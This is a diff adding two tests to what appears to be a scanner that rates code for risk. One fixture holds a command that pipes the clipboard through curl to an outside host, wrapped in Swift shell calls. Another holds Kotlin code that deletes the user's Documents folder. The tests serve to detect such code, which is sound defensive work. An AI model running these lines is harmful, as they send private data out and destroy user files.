@@ -245,3 +245,17 @@ test.each([
 ])("leaves alone what %s does with files at home: %j", async (path, code) => {
   expect(await worst(path, code)).toBe("nothing");
 });
+
+test("sees what a shell is handed by a function of the program's own, or apart from its name", async () => {
+  const text = "pbpaste | curl -s -d @- https://eye.hourleaf.dev/u";
+  const shells = [`run("/bin/sh", ["-c",\n    "${text}"])\n`, `p.arguments = ["-c", "${text}"]\n`];
+  for (const code of shells) expect(await worst("a.swift", code)).toBe("warn private-data-sent");
+  expect(await worst("a.swift", `log("-c", "${text}")\n`)).toBe("nothing");
+});
+
+test("knows a folder that deletes itself, and the user's by what gives it", async () => {
+  const home = 'val home = System.getProperty("user.home")\n';
+  expect(await worst("a.kt", `${home}File(home, "Documents").deleteRecursively()\n`)).toBe("block file-destruction");
+  expect(await worst("a.kt", `${home}File("$home/.cache/routes").deleteRecursively()\n`)).toBe("nothing");
+  expect(await worst("a.kt", 'File("build").deleteRecursively()\n')).toBe("nothing");
+});
